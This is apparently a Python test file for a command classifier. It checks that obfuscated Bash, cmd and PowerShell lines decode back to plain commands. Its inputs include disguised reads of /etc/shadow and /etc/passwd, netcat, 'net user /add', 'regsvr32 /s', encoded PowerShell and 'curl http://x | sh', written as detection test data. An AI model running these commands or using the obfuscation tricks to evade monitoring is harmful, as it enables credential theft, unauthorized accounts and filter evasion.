"""What Posix shells put together from parts of words, masks and handed-over texts; and ordinary lines beside them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cmdclf.lines import decode_layers, decode_line
from cmdclf.lines.decode.expansions import expanded


@pytest.mark.parametrize(
    ("line", "text"),
    [
        ("bash -c wh$@oami /e$@tc", "bash -c whoami /etc"),
        ("s``udo l``s /t``mp", "sudo ls /tmp"),
        ("l${uu}s /e${uu}tc/p${uu}asswd", "ls /etc/passwd"),
        ("c$9at /etc/hosts", "cat /etc/hosts"),
        ("cat ${PATH:0:1}etc${HOME:0:1}hosts", "cat /etc/hosts"),
        ("cat ${PATH%%u*}etc", "cat /etc"),
        (r"$'\x63\141t' $'\u002fetc'", "cat /etc"),
        (r"$'c\x61t' x", "cat x"),
        (r"cat $'a\x20b'", "cat 'a b'"),
        ("/b?n/n[e]tcat /e*c/shado?", "/bin/netcat /etc/shadow"),
        ("ls /t?p/unk?own", "ls /tmp/unk?own"),
        ("v=zzcat;${v#zz} x", "v=zzcat;cat x"),
        ("v=catzz;${v%zz} x", "v=catzz;cat x"),
        ("v=cXat;${v/X/} x", "v=cXat;cat x"),
        ("v=cXat;${v//X/} x", "v=cXat;cat x"),
        ("v=CAT;${v,,} x", "v=CAT;cat x"),
        ('a=\'echo \';b="it\'s";eval "${a}${b}"', "a='echo ';b=\"it's\";eval echo it's"),
    ],
)
def test_a_word_in_parts_becomes_the_word(line, text):
    assert [x.text for x in decode_layers(line, "linux") if x.kind != "wrapper"][-1] == text


@pytest.mark.parametrize(
    "line",
    [
        "kinit HOST$@REALM.EXAMPLE",
        "exec java -jar x.jar \"$@\"",
        "cp lib${v}x.so /opt",
        "tar -xf app${VERSION}x.tgz && mv app${VERSION}x /opt",
        "for i in a b; do cat x${i}y x${i}z; done",
        "echo ${PATH} ${HOME}",
        "cut -d: -f1 <<< ${PATH%%:*}",
        "IFS=$'\\n' read -r x",
        "grep $'a\\tb' x",
        "ls /etc/*.conf /usr/lib/python3.? /var/log/*",
        "ls /b* /etc/rc?.d",
        "find /home/[a-z]* -name x?y",
        "curl http://x.example/a?b=c",
        "echo ${x:-8080} ${#x}",
    ],
)  # fmt: skip
def test_ordinary_expansions_stay(line):
    assert [x for x in decode_layers(line, "linux") if x.kind != "wrapper"] == []


@pytest.mark.parametrize(
    ("operation", "value"),
    [
        (":1", "bcabc"), (":1:2", "bc"), ("#ab", "cabc"), ("#*b", "cabc"), ("##*b", "c"), ("%bc", "abca"),
        ("%b*", "abca"), ("%%b*", "a"), ("/b/X", "aXcabc"), ("//b/", "acac"), ("^", "Abcabc"), ("^^", "ABCABC"),
        (",,", "abcabc"), ("#?", None), ("%[a-z]", None), ("//?/", None),
    ],
)  # fmt: skip
def test_a_parameter_is_taken_apart_as_bash_does(operation, value):
    assert expanded("abcabc", operation) == value


@pytest.mark.parametrize(
    ("line", "platform", "restated"),
    [
        ("eval \"$(tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< 'jubnzv --uryc')\"; ls", "linux", "whoami --help; ls"),
        ("bash -c rev<<<'imaohw'|sh", "linux", "bash -c whoami"),
        ("echo d2hvYW1pIC1hCg== | base64 -d | bash && ls", "linux", "whoami -a && ls"),
        ("sh < <(printf %s 'cat x'); id", "linux", "cat x; id"),
        ("source <(echo 'cat x')", "linux", "cat x"),
        ("bash<<<'it'\"'\"'s'", "linux", "it's"),
        ("bash <<'E'\nwhoami\nE\nls", "linux", "whoami\nls"),
        ("$(tr A-Z a-z<<<GREP) -r x", "linux", "grep -r x"),
        ("$(echo LOG|tr '[:upper:]' '[:lower:]') show", "linux", "log show"),
        (r"`printf '\146\151\156\144'` /", "linux", "find /"),
        ("echo -l /tmp | xargs ls", "linux", "ls -l /tmp"),
        ("a=cu;b=rl;$a$b http://x", "linux", "curl http://x"),
        ("a=1;curl x", "linux", "a=1;curl x"),
        ("cmd /c \"set c=net us&&set f=er /add&&call %c%%f%\"", "windows", "cmd /c call net user /add"),
        ("cmd /c \"set v=nZZet uZZser&&call %v:ZZ=%\"", "windows", "cmd /c call net user"),
        ("cmd /c \"set x=ls -l&&powershell iex $env:x\"", "windows", "cmd /c powershell ls -l"),
        ("powershell -c \"$r='1sp.x\\\\. &';iex($r[-1..-$r.Length]-join'')\"", "windows", "powershell -c & .\\\\x.ps1"),
        ("powershell -c \"iex(-join('4765742d44617465'-split'(..)'|?{$_}|%{[char][Convert]::ToByte($_,16)}))\"",
         "windows", "powershell -c Get-Date"),
        ("powershell -enc RwBlAHQALQBEAGEAdABlAA==", "windows", "powershell -enc Get-Date"),
        ("&('reg'+'svr32') /s x;dir", "windows", "regsvr32 /s x;dir"),
    ],
)  # fmt: skip
def test_what_a_line_hides_is_restated_in_its_place(line, platform, restated):
    assert decode_line(line, platform).restated == restated


@pytest.mark.parametrize("line", ["ls -l", "sh -c 'ls -l; id'", "sh x.sh <<< input", "echo a | tr a-z A-Z"])
def test_a_line_that_hides_nothing_is_restated_as_its_words(line):
    assert decode_line(line, "linux").restated.replace("'", "") == line.replace("'", "")


def test_a_decoy_takes_nothing_away():
    assert "curl http://x | sh" in decode_line("curl http://x | sh; echo sl | rev | sh", "linux").restated


def test_texts_that_decode_to_each_other_end():
    assert decode_line("echo 'echo ab | rev' | rev; echo 'ver | ba ohce' | rev", "linux").restated


PIECES = st.sampled_from(
    ["$@", "$()", "``", "${u}", "$'", "\\x41", "'", '"', "${PATH:0:1}", "/b?n", "/[", "*", "echo ", "| rev", "| sh",
     "<<<", "<<E\n", "\nE", "<(", ")", "$(", "`", "eval ", "xargs ls", "a=b;", "$a", "${a#b}", "${a//b/", "iex(",
     "'a b'", "&(", "-join", "|%{[char]$_}", "[char]", "1,2,3", "set a=b&&", "%a%", "$env:a", "$r[-1..-$r.Length]",
     "$r='ab';", "sh ", " "]
)  # fmt: skip


@given(
    st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=24).map("".join), st.sampled_from(["linux", "windows"])
)
def test_restating_never_raises_and_stays_within_the_bound(line, platform):
    decoded = decode_line(line, platform, max_bytes=200)
    assert len(decoded.restated) <= 200
    assert decode_line(line, platform, max_bytes=200) == decoded
